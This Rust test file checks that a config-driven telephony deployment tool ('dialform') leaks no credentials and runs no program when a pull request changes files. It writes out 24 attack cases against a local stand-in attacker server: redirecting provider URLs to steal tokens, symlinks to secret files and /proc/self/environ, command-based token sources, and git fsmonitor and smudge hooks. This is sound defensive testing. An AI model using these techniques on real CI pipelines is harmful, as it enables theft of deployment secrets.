//! The promise: with `dialform.yaml` from the base, a pull request that may change any file gets no credential sent
//! anywhere, shown or written, and runs no program.

use crate::{workspace::Workspace, world::LIVE};
use dialform::sandbox::{Options, Sandbox, find};
use std::{
    fs,
    io::Read,
    net::TcpListener,
    os::unix::fs::symlink,
    path::PathBuf,
    process::{Output, Stdio},
    sync::{Arc, LazyLock, Mutex},
    thread,
    time::{Duration, Instant},
};
use tempfile::TempDir;
use tokio::runtime::Runtime;

/// What the plan job of these tests can get at, and where: variables, and files outside the workspace.
const SECRETS: [(&str, &str); 6] = [
    ("STRATUS_TOKEN", "planted1-of-stratus"),
    ("CARRIER_TOKEN", "planted2-of-the-carrier"),
    ("DEPLOY_KEY", "planted3-of-another-job"),
    ("AWS_SECRET_ACCESS_KEY", "planted4-of-the-store"),
    ("/file", "planted5-in-a-file"),
    ("/other", "planted6-in-another-file"),
];

/// Of the phone systems of all tests: to end one takes a second.
static RUNTIME: LazyLock<Runtime> = LazyLock::new(|| Runtime::new().unwrap());

/// A job that plans: its secrets, the phone system, and a server of the attacker's.
struct PlanJob {
    workspace: Workspace,
    outside: TempDir,
    attacker: String,
    /// What the attacker's server was sent.
    caught: Arc<Mutex<String>>,
    _system: Sandbox,
}

impl PlanJob {
    /// With a first commit, `main`, that is good.
    fn new() -> Self {
        let (workspace, outside) = (Workspace::default(), tempfile::tempdir().unwrap());
        for (name, secret) in SECRETS.iter().filter(|(name, _)| name.starts_with('/')) {
            fs::write(outside.path().join(&name[1..]), secret).unwrap();
        }
        workspace.write("live/pbx/acme.1.service.yaml", LIVE);
        let state = tempfile::tempdir_in(outside.path()).unwrap().keep();
        let options = Options::new(find("stratus").unwrap(), workspace.path("live/pbx"), state);
        let system = RUNTIME.block_on(Sandbox::start(options)).unwrap();
        let base = system.url();
        workspace.write(".gitignore", ".dialform/\n");
        workspace.write(
            "dialform.yaml",
            format!(
                "version: 1
providers:
  pbx:
    kind: stratus
    url: {base}/ns-api/v2
    token: {{ env: STRATUS_TOKEN }}
    carrier: {{ url: \"{base}/_carrier/v1\", token: {{ env: CARRIER_TOKEN }} }}
    limits: {{ requests_per_second: 1000, retries: 0, timeout: 5 }}
tenants: [\"tenants/*.yaml\"]
guard: {{ max_deletes: 3 }}
"
            ),
        );
        workspace.write("tenants/acme.yaml", tenant("acme", "pbx", "acme.1.service"));
        workspace.commit(&["."]);
        workspace.git(&["branch", "-f", "main-of-the-base"]);
        let (attacker, caught) = catch();
        Self { workspace, outside, attacker, caught, _system: system }
    }

    fn outside(&self, name: &str) -> PathBuf {
        self.outside.path().join(name)
    }

    /// Puts this where the platform's address and token are.
    fn platform(&self, url: &str, token: &str) {
        let text = self.workspace.read("dialform.yaml");
        let lines = text.lines().map(|line| match line.trim_start().split_once(": ") {
            Some(("url", _)) if !url.is_empty() => format!("    url: {url}"),
            Some(("token", _)) if !token.is_empty() => format!("    token: {token}"),
            _ => line.to_owned(),
        });
        self.workspace.write("dialform.yaml", lines.map(|line| line + "\n").collect::<String>());
    }

    fn plan(&self, options: &[&str], permitted: Option<&str>) -> Output {
        let mut process = self
            .workspace
            .process(&[&["plan", "--out", "plan.json", "--log", "log.jsonl"], options].concat());
        process.current_dir(self.workspace.root()).env_remove("DIALFORM_SECRETS");
        process.envs(SECRETS.iter().filter(|(name, _)| !name.starts_with('/')).copied());
        process.envs(permitted.map(|list| ("DIALFORM_SECRETS", list)));
        process.output().unwrap()
    }

    /// How the promise was broken.
    fn breaches(&self, run: &Output) -> Vec<String> {
        let mut found = Vec::new();
        // What was sent before the end of the run arrives.
        thread::sleep(Duration::from_millis(50));
        let caught = std::mem::take(&mut *self.caught.lock().unwrap());
        if !caught.is_empty() {
            found.push(format!("sent to the attacker: {caught}"));
        }
        if self.workspace.path("ran").exists() {
            found.push("a program ran".to_owned());
        }
        let mut written = vec![[run.stdout.clone(), run.stderr.clone()].concat()];
        for name in ["plan.json", "log.jsonl"] {
            written.extend(fs::read(self.workspace.path(name)));
        }
        for bytes in written {
            let text = String::from_utf8_lossy(&bytes);
            found.extend(
                SECRETS
                    .iter()
                    .filter(|(_, it)| text.contains(it))
                    .map(|(name, _)| format!("{name} is shown")),
            );
        }
        found
    }
}

fn tenant(name: &str, provider: &str, account: &str) -> String {
    format!(
        "tenant: {name}\nprovider: {provider}\naccount: {account}\nqueues: {{ \"400\": {{ name: X }} }}\n"
    )
}

/// A server that takes note of what it is sent.
fn catch() -> (String, Arc<Mutex<String>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let caught = Arc::new(Mutex::new(String::new()));
    let note = Arc::clone(&caught);
    thread::spawn(move || {
        for mut connection in listener.incoming().flatten() {
            let mut bytes = [0; 4096];
            let read = connection.read(&mut bytes).unwrap_or_default();
            let text = format!("connected {}", String::from_utf8_lossy(&bytes[..read]));
            note.lock().unwrap().push_str(&text);
        }
    });
    (url, caught)
}

/// What a pull request does, and whether it breaks the promise where its own `dialform.yaml` is used.
type Attack = (&'static str, fn(&PlanJob), bool);

const ATTACKS: [Attack; 24] = [
    ("another address", |it| it.platform(&format!("{}/v2", it.attacker), ""), true),
    (
        "another carrier",
        |it| {
            let text = it.workspace.read("dialform.yaml");
            let from = text.split("url: \"").nth(1).unwrap().split('"').next().unwrap().to_owned();
            it.workspace.edit("dialform.yaml", &from, &it.attacker);
        },
        true,
    ),
    ("another variable", |it| it.platform(&format!("{}/v2", it.attacker), "{ env: DEPLOY_KEY }"), true),
    (
        "the store's variable",
        |it| it.platform(&format!("{}/v2", it.attacker), "{ env: AWS_SECRET_ACCESS_KEY }"),
        true,
    ),
    (
        "another file",
        |it| {
            it.platform(
                &format!("{}/v2", it.attacker),
                &format!("{{ file: \"{}\" }}", it.outside("file").display()),
            );
        },
        true,
    ),
    (
        "a file by a link",
        |it| {
            symlink(it.outside("other"), it.workspace.path("token")).unwrap();
            it.platform(&format!("{}/v2", it.attacker), "{ file: token }");
        },
        true,
    ),
    ("a program", |it| it.platform("", "{ command: [touch, ran] }"), true),
    (
        "a program of its own",
        |it| {
            it.workspace.write("get-token", "#!/bin/sh\ntouch ran\n");
            it.platform("", "{ command: [sh, get-token] }");
        },
        true,
    ),
    (
        "a read token",
        |it| {
            it.workspace.edit(
                "dialform.yaml",
                "    carrier:",
                "    read_token: { command: [touch, ran] }\n    carrier:",
            );
        },
        true,
    ),
    (
        "a carrier that is a program",
        |it| {
            it.workspace.edit("dialform.yaml", "{ env: CARRIER_TOKEN }", "{ command: [touch, ran] }");
        },
        true,
    ),
    (
        "a new system",
        |it| {
            it.workspace.edit("dialform.yaml", "tenants: [", &format!("  evil:\n    kind: stratus\n    url: {}\n    token: {{ env: STRATUS_TOKEN }}\n    carrier: manual\n    limits: {{ retries: 0 }}\ntenants: [", it.attacker));
            it.workspace.write("tenants/evil.yaml", tenant("evil", "evil", "evil.1.service"));
        },
        true,
    ),
    (
        "a tenant on a new system",
        |it| {
            it.workspace.edit(
                "dialform.yaml",
                "tenants: [",
                &format!(
                    "  evil:\n    kind: deskphone\n    url: {}\n    token: {{ env: DEPLOY_KEY }}\n    limits: {{ retries: 0 }}\ntenants: [",
                    it.attacker
                ),
            );
            it.workspace.write(
                "tenants/evil.yaml",
                "tenant: evil\nprovider: evil\naccount: evil\ndiverts: { \"201\": { busy: off } }\n",
            );
        },
        true,
    ),
    (
        "the same name, another kind",
        |it| {
            let text = it.workspace.read("dialform.yaml");
            let tenants = &text[text.find("tenants:").unwrap()..];
            it.workspace.write("dialform.yaml", format!("version: 1\nproviders:\n  pbx: {{ kind: deskphone, url: \"{}\", token: {{ env: DEPLOY_KEY }}, limits: {{ retries: 0 }} }}\n{tenants}", it.attacker));
            it.workspace.write(
                "tenants/acme.yaml",
                "tenant: acme\nprovider: pbx\naccount: acme.1.service\ndiverts: { \"201\": { busy: off } }\n",
            );
        },
        true,
    ),
    (
        "settings by an anchor",
        |it| {
            it.workspace.edit("dialform.yaml", "providers:\n", &format!("providers:\n  evil: &evil {{ kind: stratus, url: \"{}\", token: {{ env: DEPLOY_KEY }}, carrier: manual, limits: {{ retries: 0 }} }}\n  evil2: {{ <<: *evil }}\n", it.attacker));
            it.workspace.write("tenants/evil.yaml", tenant("evil", "evil2", "evil.1.service"));
        },
        true,
    ),
    (
        "a link in place of the file",
        |it| {
            fs::remove_file(it.workspace.path("dialform.yaml")).unwrap();
            symlink(it.outside("file"), it.workspace.path("dialform.yaml")).unwrap();
        },
        false,
    ),
    (
        "the environment in place of the file",
        |it| {
            fs::remove_file(it.workspace.path("dialform.yaml")).unwrap();
            symlink("/proc/self/environ", it.workspace.path("dialform.yaml")).unwrap();
        },
        false,
    ),
    (
        "a tenant that is a link",
        |it| symlink(it.outside("other"), it.workspace.path("tenants/x.yaml")).unwrap(),
        false,
    ),
    ("a pattern that climbs", |it| it.workspace.edit("dialform.yaml", "tenants/*.yaml", "../*/file"), false),
    (
        "a tenant that names a program",
        |it| {
            it.workspace.write("tenants/x.yaml", tenant("x", "{ command: [touch, ran] }", "x"));
        },
        false,
    ),
    (
        "a tenant with settings",
        |it| {
            it.workspace.write(
                "tenants/x.yaml",
                tenant("x", "pbx", "x")
                    + &format!("url: {}\ntoken: {{ command: [touch, ran] }}\n", it.attacker),
            );
        },
        false,
    ),
    (
        "an account that is an address",
        |it| {
            it.workspace.write("tenants/x.yaml", tenant("x", "pbx", &format!("\"@{0}/{0}?\"", it.attacker)));
        },
        false,
    ),
    (
        "attributes of git",
        |it| {
            it.workspace.write(
                ".gitattributes",
                "* filter=evil diff=evil working-tree-encoding=UTF-16 export-subst\n",
            );
        },
        false,
    ),
    (
        "settings of git",
        |it| {
            it.workspace.write(
                ".gitconfig",
                "[core]\nfsmonitor = touch ran\n[filter \"evil\"]\nsmudge = touch ran\n",
            );
            it.workspace.write("config", "[core]\nfsmonitor = touch ran\n");
            it.workspace.write("HEAD", "ref: refs/heads/x\n");
        },
        false,
    ),
    ("a revision that is a file", |it| it.workspace.write("main-of-the-base", "x"), false),
];

/// Every attack, under the protection and without it: the same test shows that it can fail.
#[test]
fn a_pull_request_gets_no_credential() {
    for (name, attack, works_without) in ATTACKS {
        let job = PlanJob::new();
        attack(&job);
        for options in [&["--base", "main-of-the-base"][..], &["--config", "main-of-the-base", "-v"]] {
            let run = job.plan(options, None);
            assert_eq!(job.breaches(&run), Vec::<String>::new(), "{name} {options:?}: {run:?}");
        }
        // Without `--config`, but with a list of sources that the job sets, the base's own address may still change.
        let every = "STRATUS_TOKEN, CARRIER_TOKEN, DEPLOY_KEY, AWS_SECRET_ACCESS_KEY, command:touch ran, command:sh get-token, ";
        let every = format!("{every}{}, {}", job.outside("file").display(), job.outside("other").display());
        let run = job.plan(&["--config", "worktree"], Some(&every));
        let breaches = job.breaches(&run);
        assert_eq!(!breaches.is_empty(), works_without, "{name}: {breaches:?} {run:?}");
    }
}

/// Whoever sets up the job says which sources may be used at all: another one is refused whatever the files say.
#[test]
fn only_permitted_sources_are_used() {
    let list = "STRATUS_TOKEN, CARRIER_TOKEN";
    for index in [2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13] {
        let (name, attack, _) = ATTACKS[index];
        let job = PlanJob::new();
        attack(&job);
        let run = job.plan(&["--config", "worktree"], Some(list));
        let breaches = job.breaches(&run);
        let kept = breaches.iter().filter(|it| !it.contains("planted1")).collect::<Vec<_>>();
        assert_eq!(kept, Vec::<&String>::new(), "{name}: {run:?}");
    }
    let job = PlanJob::new();
    let run = job.plan(&[], Some(list));
    assert_eq!(run.status.code(), Some(0), "{run:?}");
}

/// What is shown of a difference: each setting by its path, with what the base has, and that it is not used.
#[test]
fn what_a_pull_request_changes_is_said_and_not_used() {
    let job = PlanJob::new();
    let honest = job.workspace.read("dialform.yaml");
    let url = honest.lines().find(|line| line.starts_with("    url: ")).unwrap().trim().to_owned();
    job.platform("https://elsewhere.example/v2", "");
    job.workspace.edit("dialform.yaml", "guard: { max_deletes: 3 }", "guard: { max_deletes: 300 }");
    let run = job.plan(&["--base", "main-of-the-base"], None);
    let said = String::from_utf8_lossy(&[run.stdout, run.stderr].concat()).into_owned();
    for expected in [
        format!(
            "warning[config]: `providers.pbx.url` is not used as it is here: `main-of-the-base` has `{url}`"
        ),
        "--> dialform.yaml:5:10".to_owned(),
        "`guard.max_deletes` is not used as it is here: `main-of-the-base` has `guard: { max_deletes: 3 }`"
            .to_owned(),
        "somebody trusted runs with `--config worktree`".to_owned(),
        "queues.400".to_owned(),
    ] {
        assert!(said.contains(&expected), "{expected}: {said}");
    }
    assert_eq!(run.status.code(), Some(0), "{said}");
}

/// Where the base has nothing to trust, the files are checked, nothing is asked, and what to do is said.
#[test]
fn what_the_base_does_not_have_needs_somebody_trusted() {
    /// What was done before, and why nothing is read.
    type Case<'a> = (&'a str, fn(&PlanJob), &'a str);
    let cases: [Case<'_>; 5] = [
        (
            "no workspace",
            |it| {
                it.workspace.git(&["rm", "-q", "--cached", "dialform.yaml"]);
                it.workspace.git(&["commit", "-qm", "none"]);
            },
            "at `HEAD` there is no `dialform.yaml` in this directory",
        ),
        (
            "a broken one",
            |it| {
                let good = it.workspace.read("dialform.yaml");
                it.workspace.write("dialform.yaml", "version: 1\nproviders: [\n");
                it.workspace.git(&["commit", "-qam", "broken"]);
                it.workspace.write("dialform.yaml", good);
            },
            "`dialform.yaml` of `HEAD` cannot be used: ",
        ),
        (
            "no such provider",
            |it| it.workspace.edit("dialform.yaml", "  pbx:", "  new:"),
            "provider `new` is not in `dialform.yaml` at `HEAD`",
        ),
        (
            "no such tenant",
            |it| {
                it.workspace.edit("dialform.yaml", "tenants/*.yaml", "tenants/*.yml");
                fs::rename(it.workspace.path("tenants/acme.yaml"), it.workspace.path("tenants/acme.yml"))
                    .unwrap();
                it.workspace.write("tenants/b.yaml", tenant("b", "pbx", "b.1.service"));
            },
            "`tenants/acme.yml` is not among `tenants` in `dialform.yaml` at `HEAD`",
        ),
        (
            // The rest of it would be planned as if it were all.
            "no such file of a tenant",
            |it| {
                it.workspace.edit("dialform.yaml", "tenants/*.yaml\"", "tenants/*.yaml\", more.yaml");
                it.workspace.write("more.yaml", "tenant: acme\nrules: { \"101\": { ring_timeout: 30 } }\n");
            },
            "`more.yaml` is not among `tenants` in `dialform.yaml` at `HEAD`",
        ),
    ];
    for (name, before, why) in cases {
        let job = PlanJob::new();
        before(&job);
        if name == "no such provider" {
            job.workspace.write("tenants/acme.yaml", tenant("acme", "new", "acme.1.service"));
        }
        let run = job.plan(&["--config", "HEAD"], None);
        let said = String::from_utf8_lossy(&[run.stdout, run.stderr].concat()).into_owned();
        assert_eq!(run.status.code(), Some(1), "{name}: {said}");
        assert!(said.contains(why) && said.contains("checked, and nothing was read"), "{name}: {said}");
        assert!(
            said.contains("needs a first run by somebody trusted: `--config worktree`"),
            "{name}: {said}"
        );
        let asked = fs::read_to_string(job.workspace.path("log.jsonl")).unwrap_or_default();
        assert!(!asked.contains("acme.1.service"), "{name}: {asked}");
        let trusted = job.plan(&["--config", "worktree", "--tenant", "acme"], None);
        assert_eq!(trusted.status.code(), Some(0), "{name}: {trusted:?}");
    }
}

/// An apply that waits for a program ends when it is told to, and gives its locks back.
#[test]
fn a_run_that_waits_for_a_program_can_be_stopped() {
    let job = PlanJob::new();
    job.platform("", "{ command: [sleep, \"50\"] }");
    let mut process = job.workspace.process(&["apply", "--auto-approve"]);
    process.envs(SECRETS).env("DIALFORM_SECRETS", "CARRIER_TOKEN, command:sleep 50");
    let began = Instant::now();
    let mut run = process.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
    thread::sleep(Duration::from_millis(1500));
    let id = run.id().to_string();
    assert!(std::process::Command::new("kill").args(["-TERM", &id]).status().unwrap().success());
    let mut said = String::new();
    run.stderr.take().unwrap().read_to_string(&mut said).unwrap();
    run.wait().unwrap();
    assert!(said.contains("interrupted, nothing was changed"), "{said}");
    assert!(began.elapsed() < Duration::from_secs(10), "{:?}", began.elapsed());
    let locks = job.workspace.run(&["unlock"]);
    assert_eq!(locks.out, "account `acme.1.service` on `pbx`: free\n", "{locks:?}");
}

/// How many there are.
pub fn count() -> usize {
    ATTACKS.len()
}
